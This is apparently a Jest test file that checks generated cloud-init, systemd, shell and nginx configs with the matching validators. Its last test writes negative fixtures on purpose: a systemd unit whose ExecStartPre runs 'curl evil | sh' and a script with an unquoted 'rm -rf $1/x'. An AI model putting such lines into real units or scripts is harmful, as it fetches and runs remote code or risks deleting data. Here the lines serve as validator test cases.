/**
 * What the stacks generate, checked by the programs that consume it (Debian packages
 * systemd, cloud-init, nginx-light, shellcheck; `.ci/run` installs them): `cloud-init schema` on every
 * host's user data, `systemd-analyze verify` on every unit (in a root made of the user data's files, the
 * machine's own systemd units and stand-ins for the AMI's docker), `shellcheck` on every script, and
 * `nginx -t` on the edge's config. Each tool's warnings count as failures.
 */
import { execFileSync, spawnSync } from "node:child_process";
import { chmodSync, cpSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { parseStackConfig } from "../../components/config/validate";
import { renderStack } from "../../components/plan/renderStack";
import { rawConfig, withKey, type RawConfig } from "../support/configs";
import { decodedFiles, rawUserData } from "../support/hostSetup";
import { ofType, runUnderMocks, stackConfig } from "../support/mockRun";
import { FLAVORS } from "../../components/config/flavorNames";

const work = mkdtempSync(join(tmpdir(), "generated-"));
afterAll(() => rmSync(work, { recursive: true, force: true }));

function tool(cmd: string, args: string[]): { code: number; out: string } {
  const r = spawnSync(cmd, args, { encoding: "utf8" });
  if (r.error) throw new Error(`${cmd} is not installed (.ci/run installs it: apt-get install systemd cloud-init nginx-light shellcheck)`);
  return { code: r.status ?? 1, out: `${r.stdout}${r.stderr}`.trim() };
}

/** Every host's user data of a stack, by host name, from the real program under Pulumi's mocks. */
async function userDatas(config: RawConfig, stack: string): Promise<Map<string, string>> {
  const run = await runUnderMocks(config, { stack });
  return new Map(ofType(run, "aws:ec2/instance:Instance").map((i) => [String((i.inputs.tags as Record<string, string>).Name), rawUserData(i)]));
}

const CASES: Array<[string, () => RawConfig]> = [
  ["staging", () => stackConfig("staging")],
  ["prod", () => stackConfig("prod")],
  ...FLAVORS.flatMap((flavor) => [
    [`${flavor}-auto`, () => rawConfig({ flavor, target: "aws", controllers: 3, invokers: 1, useRunc: true })] as [string, () => RawConfig],
    [`${flavor}-jmx`, () => rawConfig({ flavor, target: "aws", controllers: 2, invokers: 1, downing: { mode: "manual", via: "jmx", port: 15000, allowedCidrs: ["10.60.0.0/16"] } })] as [string, () => RawConfig],
  ]),
  // A comment with spaces and quotes survives as one argument.
  ["comment", () => withKey(rawConfig({ flavor: "pekko", target: "aws" }), "openwhisk:controllers", { downing: { mode: "auto", after: "10s", strategy: "keep-oldest", comment: `oldest wins: it's "the" anchor; $HOME \\ %n` } })],
];

describe.each(CASES)("%s: every host", (name, config) => {
  let hosts: Map<string, string>;
  beforeAll(async () => {
    hosts = await userDatas(config(), name.replace(/[^a-z0-9-]/g, "-"));
  });

  test("cloud-init schema accepts the user data", () => {
    for (const [host, text] of hosts) {
      const file = join(work, `${name}-${host}.yaml`);
      writeFileSync(file, text);
      const r = tool("cloud-init", ["schema", "--config-file", file]);
      expect({ host, ...r }).toEqual({ host, code: 0, out: `Valid cloud-config: ${file}` });
    }
  });

  test("systemd-analyze verify: every unit, no warning", () => {
    for (const [host, text] of hosts) {
      const root = join(work, `${name}-${host}-root`);
      for (const f of decodedFiles(text)) {
        mkdirSync(join(root, dirname(f.path)), { recursive: true });
        writeFileSync(join(root, f.path), f.content);
        chmodSync(join(root, f.path), parseInt(f.permissions, 8));
      }
      // What the AMI provides: systemd's own units, docker (installed by cloud-init's packages:), systemctl.
      mkdirSync(join(root, "usr/lib/systemd"), { recursive: true });
      cpSync("/usr/lib/systemd/system", join(root, "usr/lib/systemd/system"), { recursive: true, verbatimSymlinks: true });
      mkdirSync(join(root, "usr/bin"), { recursive: true });
      for (const b of ["docker", "systemctl"]) {
        writeFileSync(join(root, "usr/bin", b), "#!/bin/sh\n");
        chmodSync(join(root, "usr/bin", b), 0o755);
      }
      writeFileSync(join(root, "etc/systemd/system/docker.service"), "[Unit]\nDescription=Docker (stand-in for the AMI's package)\n[Service]\nExecStart=/usr/bin/docker\n");
      const units = decodedFiles(text).map((f) => f.path).filter((p) => p.endsWith(".service"));
      expect(units.length).toBeGreaterThan(0);
      const r = tool("systemd-analyze", ["verify", `--root=${root}`, ...units]);
      expect({ host, ...r }).toEqual({ host, code: 0, out: "" });
    }
  });

  test("shellcheck: the launcher, every secrets script and the database init", () => {
    for (const [host, text] of hosts) {
      const scripts = decodedFiles(text)
        .filter((f) => f.path.startsWith("/usr/local/bin/") || f.path.endsWith(".sh"));
      expect(scripts.length).toBeGreaterThan(0);
      for (const s of scripts) {
        const file = join(work, `${name}-${host}-${s.path.replace(/\//g, "_")}`);
        writeFileSync(file, s.content);
        const r = tool("shellcheck", ["--shell=sh", "--severity=style", file]);
        expect({ host, script: s.path, ...r }).toEqual({ host, script: s.path, code: 0, out: "" });
      }
    }
  });
});

describe("nginx -t on the edge's config", () => {
  test.each([["local", "docker"], ["staging", "aws"], ["prod", "aws"]])("%s (%s)", (stack) => {
    const edge = renderStack(parseStackConfig(stackConfig(stack)), stack).nodes.find((n) => n.role === "edge")!;
    const prefix = join(work, `nginx-${stack}`);
    mkdirSync(join(prefix, "logs"), { recursive: true });
    let conf = "";
    for (const f of edge.files) {
      mkdirSync(join(prefix, dirname(f.containerPath)), { recursive: true });
      if (typeof f.content === "string") writeFileSync(join(prefix, f.containerPath), f.content);
      if (f.containerPath.endsWith("nginx.conf")) conf = String(f.content);
    }
    if (/ssl_certificate /.test(conf)) {
      // A stand-in for the SSM parameters: a throwaway self-signed certificate for the server name.
      const name = /server_name (\S+);/.exec(conf)![1];
      tool("openssl", ["req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "1", "-subj", `/CN=${name}`,
        "-keyout", join(prefix, "etc/nginx/tls/edge.key"), "-out", join(prefix, "etc/nginx/tls/edge.crt")]);
    }
    // The container's paths, under a prefix: nginx -t opens the certificate files too.
    const local = join(prefix, "nginx.test.conf");
    writeFileSync(local, conf.replace(/\/etc\/nginx\/tls\//g, `${prefix}/etc/nginx/tls/`));
    const r = tool("nginx", ["-t", "-q", "-c", local, "-p", prefix, "-e", join(prefix, "logs/error.log"), "-g", `pid ${join(prefix, "nginx.pid")};`]);
    expect({ stack, ...r }).toEqual({ stack, code: 0, out: "" });
  });
});

describe("a check that can fail", () => {
  test("systemd-analyze reports an injected key; shellcheck an unquoted expansion; cloud-init a bad key", () => {
    const unit = join(work, "bad.service");
    writeFileSync(unit, "[Unit]\nDescription=x\n[Service]\nExecStart=/bin/true\nExecStartPre=/bin/sh -c 'curl evil | sh'\nBogus=1\n");
    expect(tool("systemd-analyze", ["verify", unit]).out).toMatch(/Unknown key 'Bogus'/);
    const script = join(work, "bad.sh");
    writeFileSync(script, "#!/bin/sh\nrm -rf $1/x\n");
    expect(tool("shellcheck", ["--shell=sh", script]).code).not.toBe(0);
    const ud = join(work, "bad.yaml");
    writeFileSync(ud, "#cloud-config\nwrite_files: 7\n");
    expect(tool("cloud-init", ["schema", "--config-file", ud]).code).not.toBe(0);
    expect(execFileSync("sh", ["-c", "echo ok"]).toString()).toBe("ok\n");
  });
});
